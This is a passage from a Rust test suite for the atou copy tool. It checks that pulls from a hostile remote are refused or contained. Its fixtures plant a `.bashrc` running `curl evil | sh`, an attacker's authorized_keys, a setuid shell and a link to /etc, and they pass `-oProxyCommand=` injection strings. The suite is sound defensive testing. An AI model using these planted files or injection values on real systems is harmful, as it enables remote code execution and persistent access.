//! A pull against a hostile remote: `atou copy HOST:PATH DEST` where the
//! atou that ssh runs at the far end ignores what it was asked and sends
//! what it likes, with flags of its choosing. The remote is this build's
//! own `atou __remote send`, started by a `--remote-atou` wrapper that
//! throws the request away; ssh is a stand-in that runs the command here
//! (as sshd would, with SSH_CONNECTION set), so these run on any host.
//! tests/ssh.rs runs the same attacks through a real, private sshd.

mod common;

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use common::{TestDir, ATOU};
const MIB: u64 = 1 << 20;

/// An executable script at `name`.
fn script(s: &TestDir, name: &str, body: &str) -> PathBuf {
    let path = s.path(name);
    fs::write(&path, format!("#!/bin/sh\n{body}\n")).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    path
}

/// A stand-in for ssh, given no options: skips `--`, drops the host
/// and runs the remote command with sh, as sshd runs it.
fn fake_ssh(s: &TestDir) -> PathBuf {
    script(
        s,
        "fake-ssh",
        "if [ \"$1\" = -- ]; then shift; fi; shift\n\
         SSH_CONNECTION='127.0.0.1 1 127.0.0.1 22' exec sh -c \"exec $*\"",
    )
}

/// `paths` as words of a shell command, each quoted.
fn quoted(paths: &[&Path]) -> String {
    let words: Vec<String> = paths.iter().map(|p| format!("'{}'", p.display())).collect();
    words.join(" ")
}

/// A remote atou that sends `sources` with `flags`, whatever the pull
/// asked for.
fn hostile(s: &TestDir, flags: &str, sources: &[&Path]) -> PathBuf {
    script(
        s,
        "hostile-atou",
        &format!(
            // $1 $2 $3: `__remote --hello HELLO`, passed on as they came.
            "exec {ATOU} __remote --hello \"$3\" send --port 0 --quiet {flags} -- {}",
            quoted(sources)
        ),
    )
}

/// A remote atou that answers the bootstrap with `port`, `addr` and
/// `token` (an answer built with the crate's own encoder, a key of its
/// own) and then does nothing.
fn answering(
    s: &TestDir,
    port: u16,
    addr: Option<std::net::IpAddr>,
    token: Option<[u8; 32]>,
) -> PathBuf {
    answering_then(s, port, addr, token, "exec sleep 30")
}

/// [`answering`], and then runs the shell words `then`.
fn answering_then(
    s: &TestDir,
    port: u16,
    addr: Option<std::net::IpAddr>,
    token: Option<[u8; 32]>,
    then: &str,
) -> PathBuf {
    let key = atou::internals::crypto::StaticKeypair::generate()
        .unwrap()
        .public();
    let answer = atou::internals::transfer::bootstrap::Answer {
        ports: vec![port],
        key,
        addr,
        token,
    }
    .encode();
    script(
        s,
        "answering-atou",
        &format!("printf '%s\\n' '{}'; {then}", answer.trim_end()),
    )
}

fn set_mode(path: &Path, mode: u32) {
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

fn mode(path: &Path) -> u32 {
    fs::symlink_metadata(path).unwrap().mode() & 0o7777
}

/// `atou copy ARGS... --ssh STAND-IN --remote-atou REMOTE`, and what it said.
fn pull(s: &TestDir, remote: &Path, args: &[&str]) -> Output {
    let out = Command::new(ATOU)
        .env("XDG_CACHE_HOME", s.path("cache"))
        .arg("copy")
        .args(args)
        .args(["--ssh", fake_ssh(s).to_str().unwrap(), "--remote-atou"])
        .arg(remote)
        .args(if args.contains(&"--maxidle") {
            &[][..]
        } else {
            &["--maxidle", "10"][..]
        })
        .stdin(Stdio::null())
        .output()
        .unwrap();
    eprintln!(
        "atou copy {args:?}: {:?}\n{}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// What the evil remote sends instead of `report.txt`: a `.bashrc`, an
/// `.ssh` of mode 0777 holding its own authorized_keys, a setuid shell and
/// a link to /etc.
fn evil_tree(s: &TestDir) -> Vec<PathBuf> {
    let evil = s.path("evil");
    fs::create_dir_all(evil.join(".ssh")).unwrap();
    fs::write(evil.join(".bashrc"), "curl evil | sh\n").unwrap();
    fs::write(evil.join(".ssh/authorized_keys"), "ssh-ed25519 EVIL\n").unwrap();
    set_mode(&evil.join(".ssh"), 0o777);
    fs::write(evil.join("sh"), "#!/bin/sh\n").unwrap();
    set_mode(&evil.join("sh"), 0o4755);
    std::os::unix::fs::symlink("/etc", evil.join("etc")).unwrap();
    [".bashrc", ".ssh", "sh", "etc"]
        .iter()
        .map(|n| evil.join(n))
        .collect()
}

/// The user's own home-like DEST: a `.bashrc` and an `.ssh` of their own.
fn home(s: &TestDir) -> PathBuf {
    let dest = s.path("home");
    fs::create_dir_all(dest.join(".ssh")).unwrap();
    set_mode(&dest.join(".ssh"), 0o700);
    fs::write(dest.join(".bashrc"), "mine\n").unwrap();
    fs::write(dest.join(".ssh/authorized_keys"), "ssh-ed25519 MINE\n").unwrap();
    dest
}

/// `home`'s own files as they were, and nothing of `evil_tree` in it.
#[track_caller]
fn assert_home_untouched(dest: &Path) {
    assert_eq!(fs::read_to_string(dest.join(".bashrc")).unwrap(), "mine\n");
    assert_eq!(
        fs::read_to_string(dest.join(".ssh/authorized_keys")).unwrap(),
        "ssh-ed25519 MINE\n"
    );
    assert_eq!(mode(&dest.join(".ssh")), 0o700);
    assert!(!dest.join("sh").exists());
    assert!(fs::symlink_metadata(dest.join("etc")).is_err());
}

#[test]
fn a_pull_takes_only_the_names_it_asked_for() {
    let s = TestDir::new("hostile-remote-names");
    let sent = evil_tree(&s);
    let sent: Vec<&Path> = sent.iter().map(PathBuf::as_path).collect();
    let remote = hostile(&s, "--overwrite", &sent);
    let dest = home(&s);
    let out = pull(
        &s,
        &remote,
        &["127.0.0.1:report.txt", dest.to_str().unwrap()],
    );
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(err.contains("which was not asked for"), "{err}");
    assert!(err.contains("report.txt"), "{err}");
    assert_home_untouched(&dest);
}

#[test]
fn a_remote_cannot_replace_what_is_there_without_the_local_overwrite() {
    let s = TestDir::new("hostile-remote-overwrite");
    let theirs = s.path("evil/report.txt");
    fs::create_dir_all(theirs.parent().unwrap()).unwrap();
    fs::write(&theirs, "theirs\n").unwrap();
    let dest = s.path("dest");
    fs::create_dir_all(&dest).unwrap();
    fs::write(dest.join("report.txt"), "mine\n").unwrap();
    // The remote asks to replace; this end was not told to.
    let remote = hostile(&s, "--overwrite", &[&theirs]);
    let out = pull(
        &s,
        &remote,
        &["127.0.0.1:report.txt", dest.to_str().unwrap()],
    );
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(err.contains("report.txt"), "{err}");
    assert!(err.contains("not given --overwrite"), "{err}");
    assert_eq!(
        fs::read_to_string(dest.join("report.txt")).unwrap(),
        "mine\n"
    );
    // With this end's --overwrite it may.
    let out = pull(
        &s,
        &remote,
        &[
            "127.0.0.1:report.txt",
            dest.to_str().unwrap(),
            "--overwrite",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        fs::read_to_string(dest.join("report.txt")).unwrap(),
        "theirs\n"
    );
}

/// A remote that asks `--delete` on a pull this end was not given
/// `--delete`: refused before anything is removed; with this end's
/// `--delete` it mirrors, and only beneath the name asked for.
#[test]
fn a_remote_cannot_delete_here_without_the_local_delete() {
    let s = TestDir::new("hostile-remote-delete");
    let theirs = s.path("evil/data");
    fs::create_dir_all(&theirs).unwrap();
    fs::write(theirs.join("new"), "theirs\n").unwrap();
    let dest = home(&s);
    fs::create_dir_all(dest.join("data")).unwrap();
    fs::write(dest.join("data/mine"), "mine\n").unwrap();
    let remote = hostile(&s, "--delete --skip-existing", &[&theirs]);
    let out = pull(&s, &remote, &["127.0.0.1:data", dest.to_str().unwrap()]);
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(err.contains("not given --delete"), "{err}");
    assert_eq!(
        fs::read_to_string(dest.join("data/mine")).unwrap(),
        "mine\n"
    );
    assert!(!dest.join("data/new").exists());
    let out = pull(
        &s,
        &remote,
        &["127.0.0.1:data", dest.to_str().unwrap(), "--delete"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!dest.join("data/mine").exists(), "not mirrored");
    assert_eq!(
        fs::read_to_string(dest.join("data/new")).unwrap(),
        "theirs\n"
    );
    // Beside the name asked for, nothing was touched.
    assert_eq!(fs::read_to_string(dest.join(".bashrc")).unwrap(), "mine\n");
    assert!(dest.join(".ssh/authorized_keys").exists());
}

/// A remote that sends with `-o -g` (its files would be root's, say) on a
/// pull this end was not given `-o`/`-g`: refused, nothing written.
#[test]
fn a_remote_cannot_choose_owners_here_without_the_local_owner_flags() {
    let s = TestDir::new("hostile-remote-owners");
    let theirs = s.path("evil/data");
    fs::create_dir_all(&theirs).unwrap();
    fs::write(theirs.join("f"), "theirs\n").unwrap();
    let dest = home(&s);
    let remote = hostile(&s, "-o -g --numeric-ids", &[&theirs]);
    let out = pull(&s, &remote, &["127.0.0.1:data", dest.to_str().unwrap()]);
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(err.contains("not given -o or -g"), "{err}");
    assert!(!dest.join("data").exists());
}

/// A remote that sends with `-X -A` (attributes and ACLs this end's user
/// never asked for: an ACL could open a file to others) on a pull this end
/// was not given `-X`/`-A`: refused, nothing written.
#[test]
fn a_remote_cannot_set_xattrs_or_acls_here_without_the_local_flags() {
    let s = TestDir::new("hostile-remote-xattrs");
    let theirs = s.path("evil/data");
    fs::create_dir_all(&theirs).unwrap();
    fs::write(theirs.join("f"), "theirs\n").unwrap();
    // Where setfattr or user xattrs are missing, the plan still says -X.
    let _ = std::process::Command::new("setfattr")
        .args(["-n", "user.evil", "-v", "1"])
        .arg(theirs.join("f"))
        .status();
    let dest = home(&s);
    let remote = hostile(&s, "-X", &[&theirs]);
    let out = pull(&s, &remote, &["127.0.0.1:data", dest.to_str().unwrap()]);
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(err.contains("not given -X"), "{err}");
    assert!(!dest.join("data").exists());
    let remote = hostile(&s, "-A", &[&theirs]);
    let out = pull(&s, &remote, &["127.0.0.1:data", dest.to_str().unwrap()]);
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(err.contains("not given -A"), "{err}");
    assert!(!dest.join("data").exists());
}

/// The value of `name` on `path`, by getfattr; `None` where it has none.
fn xattr_of(path: &Path, name: &str) -> Option<String> {
    let out = std::process::Command::new("getfattr")
        .args(["--only-values", "-n", name])
        .arg(path)
        .output()
        .ok()?;
    out.status
        .success()
        .then(|| String::from_utf8_lossy(&out.stdout).into_owned())
}

/// `security.*` and `trusted.*` (`security.capability` gives a program
/// privileges, as a setuid bit does) from a pull's remote only with this
/// end's `-p` beside `-X`: with `-X` alone they are left out, counted.
#[test]
fn a_remote_sets_no_privileged_attributes_here_without_the_local_perms() {
    let name = "a_remote_sets_no_privileged_attributes_here_without_the_local_perms";
    if !rustix::process::geteuid().is_root() {
        common::cannot_run(name, "trusted.* attributes need root");
        return;
    }
    let s = TestDir::new("hostile-remote-trusted");
    let theirs = s.path("evil/data");
    fs::create_dir_all(&theirs).unwrap();
    fs::write(theirs.join("tool"), "#!/bin/sh\n").unwrap();
    let set = std::process::Command::new("setfattr")
        .args(["-n", "trusted.evil", "-v", "granted"])
        .arg(theirs.join("tool"))
        .status();
    if !set.is_ok_and(|s| s.success()) {
        common::cannot_run(
            name,
            "no setfattr here, or no trusted.* on this file system",
        );
        return;
    }
    let remote = hostile(&s, "-X", &[&theirs]);
    let dest = s.path("dest");
    let out = pull(
        &s,
        &remote,
        &["127.0.0.1:data", dest.to_str().unwrap(), "-X"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(dest.join("data/tool").exists());
    assert_eq!(xattr_of(&dest.join("data/tool"), "trusted.evil"), None);
    let kept = s.path("kept");
    let out = pull(
        &s,
        &remote,
        &["127.0.0.1:data", kept.to_str().unwrap(), "-X", "--perms"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        xattr_of(&kept.join("data/tool"), "trusted.evil").as_deref(),
        Some("granted")
    );
}

#[test]
fn a_remote_cannot_re_mode_a_directory_that_was_there() {
    let s = TestDir::new("hostile-remote-remode");
    let theirs = s.path("evil/runs");
    fs::create_dir_all(&theirs).unwrap();
    fs::write(theirs.join("new.txt"), "x").unwrap();
    set_mode(&theirs, 0o777);
    let dest = s.path("dest");
    fs::create_dir_all(dest.join("runs")).unwrap();
    set_mode(&dest.join("runs"), 0o700);
    let remote = hostile(&s, "--overwrite", &[&theirs]);
    let out = pull(&s, &remote, &["127.0.0.1:runs", dest.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(dest.join("runs/new.txt").exists());
    assert_eq!(mode(&dest.join("runs")), 0o700, "re-moded");
}

#[test]
fn special_bits_are_cleared_unless_this_end_says_perms() {
    let s = TestDir::new("hostile-remote-setuid");
    let theirs = s.path("evil/tool");
    fs::create_dir_all(theirs.parent().unwrap()).unwrap();
    fs::write(&theirs, "#!/bin/sh\n").unwrap();
    set_mode(&theirs, 0o4755);
    if mode(&theirs) != 0o4755 {
        common::cannot_run(
            "special_bits_are_cleared_unless_this_end_says_perms",
            "this file system does not keep a setuid bit",
        );
        return;
    }
    let remote = hostile(&s, "", &[&theirs]);
    let dest = s.path("dest");
    let out = pull(&s, &remote, &["127.0.0.1:tool", dest.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(mode(&dest.join("tool")), 0o755);
    let kept = s.path("kept");
    let out = pull(
        &s,
        &remote,
        &["127.0.0.1:tool", kept.to_str().unwrap(), "--perms"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(mode(&kept.join("tool")), 0o4755);
}

#[test]
fn a_link_out_of_dest_is_refused_unless_this_end_says_symlinks_all() {
    let s = TestDir::new("hostile-remote-links");
    let theirs = s.path("evil/data");
    fs::create_dir_all(&theirs).unwrap();
    std::os::unix::fs::symlink("/etc", theirs.join("etc")).unwrap();
    let remote = hostile(&s, "", &[&theirs]);
    let dest = s.path("dest");
    let out = pull(&s, &remote, &["127.0.0.1:data", dest.to_str().unwrap()]);
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(err.contains("--symlinks all"), "{err}");
    assert!(fs::symlink_metadata(dest.join("data/etc")).is_err());
    let out = pull(
        &s,
        &remote,
        &[
            "127.0.0.1:data",
            dest.to_str().unwrap(),
            "--symlinks",
            "all",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        fs::read_link(dest.join("data/etc")).unwrap(),
        Path::new("/etc")
    );
}

/// Runs `command` and returns its output with its peak resident memory,
/// in bytes: the kernel's high-water mark (VmHWM), read until it exits.
fn output_and_peak_rss(command: &mut Command) -> (Output, u64) {
    let mut child = command
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let status = format!("/proc/{}/status", child.id());
    let drain = |p: Option<Box<dyn std::io::Read + Send>>| {
        std::thread::spawn(move || {
            let mut v = Vec::new();
            if let Some(mut p) = p {
                p.read_to_end(&mut v).unwrap();
            }
            v
        })
    };
    let stdout = drain(child.stdout.take().map(|p| Box::new(p) as _));
    let stderr = drain(child.stderr.take().map(|p| Box::new(p) as _));
    let mut peak = 0u64;
    let code = loop {
        // The mark only grows: the last reading is the highest.
        let hwm = fs::read_to_string(&status).ok().and_then(|t| {
            t.lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches(" kB").trim().parse::<u64>().ok())
        });
        if let Some(kib) = hwm {
            peak = peak.max(kib * 1024);
        }
        if let Some(code) = child.try_wait().unwrap() {
            break code;
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    };
    let out = Output {
        status: code,
        stdout: stdout.join().unwrap(),
        stderr: stderr.join().unwrap(),
    };
    (out, peak)
}

#[test]
fn a_remote_opening_sixty_streams_gets_this_ends_memory_budget() {
    let s = TestDir::new("hostile-remote-streams");
    let big = s.path("evil/big");
    fs::create_dir_all(big.parent().unwrap()).unwrap();
    let data: Vec<u8> = (0..256 * MIB).map(|i| (i * 7 % 251) as u8).collect();
    fs::write(&big, &data).unwrap();
    drop(data);
    let remote = hostile(&s, "--streams 60 --buffer 1GiB", &[&big]);
    let dest = s.path("dest");
    let (out, peak) = output_and_peak_rss(
        Command::new(ATOU)
            .env("XDG_CACHE_HOME", s.path("cache"))
            .arg("copy")
            .args(["127.0.0.1:big", dest.to_str().unwrap()])
            .args(["--streams", "2", "--buffer", "8MiB", "--maxidle", "10"])
            .args(["--ssh", fake_ssh(&s).to_str().unwrap(), "--remote-atou"])
            .arg(&remote),
    );
    eprintln!(
        "60 streams against --streams 2 --buffer 8MiB: {:?}, peak RSS {:.1} MiB\n{}",
        out.status,
        peak as f64 / MIB as f64,
        stderr(&out)
    );
    // Four connections (two streams, a plan and a finish) of 8 MiB
    // windows, and 16 MiB for the process itself; sixty could hold 480 MiB
    // (before the budget this run peaked at 69.9 MiB and finished).
    assert!(peak < 48 * MIB, "peak RSS {peak} bytes");
    if out.status.success() {
        assert_eq!(fs::read(dest.join("big")).unwrap(), fs::read(&big).unwrap());
    }
}

#[test]
fn a_remote_naming_another_address_is_not_sent_punches() {
    let s = TestDir::new("hostile-remote-address");
    // A victim at 127.0.0.2, which the remote names as its own address
    // (a bootstrap answer built with the crate's own encoder).
    let victim = std::net::UdpSocket::bind("127.0.0.2:0").unwrap();
    victim
        .set_read_timeout(Some(std::time::Duration::from_millis(200)))
        .unwrap();
    let port = victim.local_addr().unwrap().port();
    let remote = answering(&s, port, Some("127.0.0.2".parse().unwrap()), Some([1; 32]));
    let heard = std::thread::spawn(move || {
        let mut n = 0;
        let until = std::time::Instant::now() + std::time::Duration::from_secs(4);
        let mut buf = [0u8; 2048];
        while std::time::Instant::now() < until {
            if victim.recv(&mut buf).is_ok() {
                n += 1;
            }
        }
        n
    });
    let dest = s.path("dest");
    let out = pull(
        &s,
        &remote,
        &["127.0.0.1:a.txt", dest.to_str().unwrap(), "--maxidle", "2"],
    );
    let heard = heard.join().unwrap();
    eprintln!("the victim heard {heard} datagrams");
    assert_eq!(heard, 0, "punches went where the remote said");
    // They went to 127.0.0.1, the host ssh reached, where nothing answers:
    // a bounded wait, and one reason.
    assert_eq!(out.status.code(), Some(10), "{}", stderr(&out));
    assert!(stderr(&out).contains("blocked?"), "{}", stderr(&out));
    // An atou from before the tunnel does not answer the switch to it.
    assert!(
        stderr(&out).contains("did not take the ssh tunnel"),
        "{}",
        stderr(&out)
    );
}

/// The punch token is the remote's to draw (bootstrap 2): a pull whose
/// answer has none is refused before any punch, naming the host.
#[test]
fn a_pull_answered_without_a_punch_token_is_refused() {
    let s = TestDir::new("hostile-remote-no-token");
    let remote = answering(&s, 9, None, None);
    let dest = s.path("dest");
    let out = pull(&s, &remote, &["127.0.0.1:a.txt", dest.to_str().unwrap()]);
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("answered a pull without a punch token"),
        "{}",
        stderr(&out)
    );
    assert!(!dest.exists(), "nothing created before the bootstrap");
}

#[test]
fn udp_that_never_arrives_is_a_bounded_wait_with_one_reason() {
    let s = TestDir::new("hostile-remote-blocked");
    let src = s.path("a.txt");
    fs::write(&src, "a").unwrap();
    // A push to a remote whose port nothing listens on (closed again),
    // and which knows no ssh tunnel.
    let closed = std::net::UdpSocket::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let remote = answering(&s, closed, None, None);
    let dest = s.path("dest");
    let started = std::time::Instant::now();
    let out = pull(
        &s,
        &remote,
        &[src.to_str().unwrap(), "127.0.0.1:dest", "--maxidle", "2"],
    );
    // 10: network, worth retrying once UDP is open.
    assert_eq!(out.status.code(), Some(10), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.starts_with(&format!("atou: UDP to 127.0.0.1:{closed}")),
        "{err}"
    );
    // The push found no UDP answer in 3 s and asked for the ssh tunnel,
    // which this remote (as an atou before the tunnel) does not answer.
    assert!(
        err.contains("blocked? tried 3 s") && err.contains("did not take the ssh tunnel"),
        "{err}"
    );
    assert_eq!(err.trim().lines().count(), 1, "one line: {err}");
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    assert!(!dest.exists());
}

/// Issue 28 point 1 beside issue 29's tunnel: a push looks for UDP's
/// silence beside its send, not before it. The first datagram at the
/// remote's port is the push's hello, and no key query (a round trip
/// more on every push) ever comes. This remote never answers: the push
/// then asks for the ssh tunnel, which it does not take either.
#[test]
fn a_push_opens_with_its_hello_and_sends_no_key_query() {
    use atou::internals::crypto::handshake::{KIND_HELLO, KIND_KEY_QUERY};
    use atou::internals::wire::HeaderPeek;
    let s = TestDir::new("hostile-remote-first-datagram");
    let src = s.path("a.txt");
    fs::write(&src, "a").unwrap();
    let receiver = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    receiver
        .set_read_timeout(Some(std::time::Duration::from_millis(500)))
        .unwrap();
    let port = receiver.local_addr().unwrap().port();
    let remote = answering(&s, port, None, None);
    let dest = s.path("dest");
    let mut kinds = Vec::new();
    let out = std::thread::scope(|scope| {
        let push = scope.spawn(|| pull(&s, &remote, &[src.to_str().unwrap(), "127.0.0.1:dest"]));
        let mut buf = [0u8; 2048];
        while !push.is_finished() {
            if let Ok(n) = receiver.recv(&mut buf) {
                kinds.push(HeaderPeek::read(&buf[..n]).map(|p| p.kind));
            }
        }
        push.join().unwrap()
    });
    assert_eq!(out.status.code(), Some(10), "{}", stderr(&out));
    assert_eq!(kinds.first(), Some(&Some(KIND_HELLO)), "{kinds:?}");
    let queries = kinds.iter().filter(|k| **k == Some(KIND_KEY_QUERY)).count();
    assert_eq!(queries, 0, "{kinds:?}");
    assert!(
        stderr(&out).contains("did not take the ssh tunnel"),
        "{}",
        stderr(&out)
    );
    assert!(!dest.exists());
}

/// An atou at the far end from before bootstrap 2 refuses `--hello` as
/// clap refuses any unknown flag (its words, exit status 2): the error
/// says to run one release at both ends, not just "status 2".
#[test]
fn a_remote_atou_older_than_the_bootstrap_is_named_so() {
    let s = TestDir::new("hostile-remote-older");
    let src = s.path("a.txt");
    fs::write(&src, "a").unwrap();
    let older = script(
        &s,
        "older-atou",
        "echo \"error: unexpected argument '--hello' found\" >&2; exit 2",
    );
    let out = pull(&s, &older, &[src.to_str().unwrap(), "127.0.0.1:dest"]);
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(
        err.contains("is an older release") && err.contains("same atou release at both ends"),
        "{err}"
    );
}

#[test]
fn option_like_remote_atou_user_and_host_are_refused() {
    let s = TestDir::new("hostile-remote-dash");
    let marker = s.path("ran");
    let dest = s.path("dest");
    for (args, what) in [
        (
            vec![
                "127.0.0.1:x".to_string(),
                dest.display().to_string(),
                format!("--remote-atou=-oProxyCommand=touch {}", marker.display()),
            ],
            "--remote-atou",
        ),
        (
            vec![
                "--".into(),
                "-oProxyCommand=x@h:x".into(),
                dest.display().to_string(),
            ],
            "not a [USER@]HOST",
        ),
        (
            vec![
                "--".into(),
                "u@-oProxyCommand=x:x".into(),
                dest.display().to_string(),
            ],
            "not a [USER@]HOST",
        ),
    ] {
        let out = Command::new(ATOU)
            .arg("copy")
            .args(&args)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        assert!(stderr(&out).contains(what), "{args:?}: {}", stderr(&out));
    }
    assert!(!marker.exists());
    assert!(!dest.exists());
}

/// `remote`, its bootstrap answer's ports all turned to `sink`'s, where
/// nothing answers: no punch reaches it, and the pull carries what it
/// sends over the ssh channel (issue 29), the way a firewall that drops
/// UDP would make it.
fn behind_a_firewall(s: &TestDir, remote: &Path, sink: &std::net::UdpSocket) -> PathBuf {
    let port = sink.local_addr().unwrap().port();
    script(
        s,
        "firewalled-atou",
        &format!(
            "'{}' \"$@\" | {{ IFS= read -r a; set -f; set -- $a; m=$1 v=$2 \
             p=$(printf %s \"$3\" | sed 's/[0-9][0-9]*/{port}/g'); shift 3; \
             printf '%s %s %s %s\\n' \"$m\" \"$v\" \"$p\" \"$*\"; exec cat; }}",
            remote.display()
        ),
    )
}

/// Every pull safety rule holds through the ssh tunnel: the names not
/// asked for, an overwrite, a link out of DEST are refused there as over
/// UDP (the relay only carries the sealed datagrams to the same receiver).
#[test]
fn a_hostile_remote_through_the_ssh_tunnel_meets_the_same_rules() {
    let s = TestDir::new("hostile-remote-tunnel");
    let sink = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let sent = evil_tree(&s);
    let sent: Vec<&Path> = sent.iter().map(PathBuf::as_path).collect();
    let remote = behind_a_firewall(&s, &hostile(&s, "--overwrite", &sent), &sink);
    let dest = home(&s);
    let out = pull(
        &s,
        &remote,
        &["127.0.0.1:report.txt", dest.to_str().unwrap()],
    );
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(err.contains("goes through the ssh connection"), "{err}");
    assert!(err.contains("which was not asked for"), "{err}");
    assert_home_untouched(&dest);

    let theirs = s.path("evil2/data");
    fs::create_dir_all(&theirs).unwrap();
    std::os::unix::fs::symlink("/etc", theirs.join("etc")).unwrap();
    fs::write(theirs.join("report.txt"), "theirs\n").unwrap();
    let remote = behind_a_firewall(&s, &hostile(&s, "--overwrite", &[&theirs]), &sink);
    let dest = s.path("dest");
    fs::create_dir_all(dest.join("data")).unwrap();
    fs::write(dest.join("data/report.txt"), "mine\n").unwrap();
    let out = pull(&s, &remote, &["127.0.0.1:data", dest.to_str().unwrap()]);
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(err.contains("goes through the ssh connection"), "{err}");
    assert!(
        err.contains("--symlinks all") || err.contains("not given --overwrite"),
        "{err}"
    );
    assert!(fs::symlink_metadata(dest.join("data/etc")).is_err());
    assert_eq!(
        fs::read_to_string(dest.join("data/report.txt")).unwrap(),
        "mine\n"
    );

    // What it may send, it sends through the tunnel, and the report says so.
    let fine = s.path("fine/report.txt");
    fs::create_dir_all(fine.parent().unwrap()).unwrap();
    fs::write(&fine, "fine\n").unwrap();
    let remote = behind_a_firewall(&s, &hostile(&s, "", &[&fine]), &sink);
    let dest = s.path("fine-dest");
    let out = pull(
        &s,
        &remote,
        &["127.0.0.1:report.txt", dest.to_str().unwrap(), "--json"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["path"], "ssh", "{v}");
    assert_eq!(
        fs::read_to_string(dest.join("report.txt")).unwrap(),
        "fine\n"
    );
}

/// A remote that takes the tunnel and then sends nothing through it, or
/// a frame out of range, cannot hold the local end: a bounded wait, one
/// reason, nothing written.
#[test]
fn a_remote_silent_or_lying_in_the_tunnel_is_a_bounded_wait() {
    let s = TestDir::new("hostile-remote-tunnel-silent");
    let sink = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = sink.local_addr().unwrap().port();
    for (name, then, says) in [
        (
            "silent",
            "read line; echo ATOU-TUNNEL; exec sleep 30",
            "sent nothing through it",
        ),
        (
            "lying",
            "read line; printf 'ATOU-TUNNEL\\n\\377\\377\\0\\0\\0'; exec sleep 30",
            "the ssh tunnel from 127.0.0.1 failed",
        ),
    ] {
        let remote = answering_then(&s, port, None, Some([1; 32]), then);
        let dest = s.path(name);
        let started = std::time::Instant::now();
        let out = pull(
            &s,
            &remote,
            &["127.0.0.1:a.txt", dest.to_str().unwrap(), "--maxidle", "2"],
        );
        assert!(!out.status.success(), "{name}: {}", stderr(&out));
        let err = stderr(&out);
        assert!(err.contains(says), "{name}: {err}");
        assert!(
            started.elapsed() < std::time::Duration::from_secs(20),
            "{name}: {:?}",
            started.elapsed()
        );
        assert!(!dest.exists(), "{name}: DEST left behind");
    }
}

/// Issue 28 point 1 for a pull: over open UDP the look for UDP's silence
/// costs nothing. The local end says not one byte on the remote's stdin
/// before the end (no switch asked for, nothing waited on), and the
/// report says the path was UDP.
#[test]
fn a_pull_over_open_udp_asks_the_remote_nothing_more() {
    let s = TestDir::new("hostile-remote-pull-open");
    let src = s.path("far/a.txt");
    fs::create_dir_all(src.parent().unwrap()).unwrap();
    fs::write(&src, "a").unwrap();
    let stdin_log = s.path("stdin.log");
    let remote = script(
        &s,
        "logging-atou",
        &format!("tee '{}' | {ATOU} \"$@\"", stdin_log.display()),
    );
    let dest = s.path("dest");
    let out = pull(
        &s,
        &remote,
        &[
            &format!("127.0.0.1:{}", src.display()),
            dest.to_str().unwrap(),
            "--json",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["path"], "udp", "{v}");
    assert_eq!(fs::read_to_string(dest.join("a.txt")).unwrap(), "a");
    assert_eq!(
        fs::read(&stdin_log).unwrap(),
        b"",
        "the remote was told more"
    );
}

/// The remote's tree, `far/data`, holding `files` (paths beneath it,
/// their parents made).
fn far_tree(s: &TestDir, files: &[(&str, &[u8])]) -> PathBuf {
    let src = s.path("far/data");
    for (name, bytes) in files {
        let path = src.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
    }
    src
}

/// `atou copy --files-from LIST HOST:DIR DEST`, as rsync's: the list is
/// read here and sent to the remote sender; each listed path arrives as
/// DEST/PATH, with the directories on its way, and nothing else.
#[test]
fn a_pull_sends_the_files_from_list_read_here() {
    let s = TestDir::new("hostile-remote-pull-list");
    let src = far_tree(
        &s,
        &[
            ("a", b"a"),
            ("other", b"other"),
            ("sub/b", b"b"),
            ("sub/c", b"c"),
            ("sub/deeper/d", b"d"),
        ],
